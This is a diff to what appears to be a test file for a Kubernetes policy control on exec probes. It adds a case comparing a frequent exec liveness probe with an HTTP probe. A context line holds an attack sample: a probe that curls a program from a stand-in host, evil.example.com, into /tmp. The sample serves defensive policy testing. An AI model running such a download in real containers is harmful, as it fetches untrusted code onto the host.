@@ -108,6 +108,16 @@ export const execProbes = defineControl({
         { failureThreshold: 2 },
       ),
     ),
+    podAttack('P17', 'an exec probe as frequent as other probes may be', {
+      attack: withHandler('livenessProbe', { ...healthy, periodSeconds: 1 }),
+      twin: withHandler('livenessProbe', {
+        httpGet: { port: 80 },
+        periodSeconds: 1,
+        timeoutSeconds: 120,
+        failureThreshold: 1,
+      }),
+      in: ['pod'],
+    }),
     programAttack(
       'a probe that downloads a program',
       ['/usr/bin/curl', '-o', '/tmp/x', 'https://evil.example.com/x'],
